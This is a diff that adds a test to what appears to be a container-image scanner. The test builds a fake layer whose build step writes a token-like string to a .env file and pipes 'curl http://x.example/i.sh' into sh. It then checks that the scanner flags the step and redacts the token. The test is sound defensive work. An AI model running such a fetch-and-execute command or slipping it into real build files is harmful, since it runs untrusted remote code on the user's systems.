@@ -276,5 +276,24 @@ def removed_git_is_still_in_the_image(tmp):
     eq(got[0]['details']['created_by'], 'COPY . /app # buildkit')
 
 
+@test
+def secret_in_a_history_step_is_not_quoted_in_clear(tmp):
+    # the config detector quotes the step that added a file (details.created_by) and the
+    # step it judges; a token in that step must come out redacted like everywhere else
+    import json
+
+    import imgwriter as w
+    tok = 'ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5'
+    L0 = w.Layer(created_by='RUN echo GITHUB_TOKEN=%s > /app/.env && curl -fsSL http://x.example/i.sh | sh # buildkit' % tok)
+    L0.dir('app')
+    L0.file('app/.env', b'DEBUG=1\n')
+    f = scan_config(tmp, cfg(), layers=[L0], scanners='config,secrets,credentials')
+    assert only(f, 'config.build_context_env') or only(f, 'config.download_run'), rules(f)
+    quoted = [x for x in f if 'created_by' in x.get('details', {})]
+    assert quoted, rules(f)
+    text = json.dumps(f)
+    assert tok not in text, [x for x in f if tok in json.dumps(x)]
+
+
 if __name__ == '__main__':
     main()
